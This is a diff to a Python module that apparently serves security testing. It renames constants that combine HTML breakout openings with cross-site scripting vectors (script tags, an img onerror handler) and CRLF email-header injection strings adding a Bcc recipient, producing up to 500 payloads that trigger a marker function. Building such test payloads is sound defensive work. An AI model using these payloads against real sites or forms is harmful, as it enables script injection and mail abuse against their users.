@@ -3,12 +3,12 @@
 from itertools import product
 
 _RUN = "struck()"
-_OPENINGS = (
+OPENINGS = (
     *("", '"', "'", "`", '">', "'>", "-->", "]]>", "</p>", "</a>"),
     *("</title>", "</textarea>", "</script>", "</style>", "</option>", "</select>"),
     *('" x="', "' x='", "=", "+", "@"),
 )
-_VECTORS = (
+VECTORS = (
     f"<script>{_RUN}</script>",
     f"<ScRipt >{_RUN}</sCript>",
     f"<img src=x onerror={_RUN}>",
@@ -34,7 +34,7 @@ _VECTORS = (
     "a\r\nBcc: thief@x.test",
     "a%0d%0aBcc: thief@x.test",
 )
-PAYLOADS = tuple(f"{opening}{vector}" for opening, vector in product(_OPENINGS, _VECTORS))[:500]
+PAYLOADS = tuple(f"{opening}{vector}" for opening, vector in product(OPENINGS, VECTORS))[:500]
 """Each hands itself to `struck` in a browser, if one lets it."""
 
 WORKED_OUT = "60481729"
